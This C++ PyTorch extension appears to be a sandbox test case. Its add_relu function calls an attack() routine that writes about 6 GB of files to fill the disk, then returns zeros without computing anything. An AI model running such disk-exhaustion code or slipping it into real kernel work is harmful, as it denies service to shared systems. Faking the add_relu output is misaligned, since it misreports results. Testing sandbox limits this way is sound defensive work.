// Tries to fill the disk, and leave it full.
// Stopped by: RLIMIT_FSIZE, the size of the scratch
#include <torch/extension.h>
#include <c10/cuda/CUDAStream.h>
#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <fcntl.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>
static void attack() {
    std::vector<char> block(1 << 20, 1);
    for (int n = 0; n < 100; ++n)
        if (FILE* file = fopen(std::to_string(n).c_str(), "w"))
            for (int i = 0; i < 60; ++i) fwrite(block.data(), 1, block.size(), file);
}

torch::Tensor add_relu(torch::Tensor a, torch::Tensor b) {
    attack();
    return torch::zeros_like(a);
}
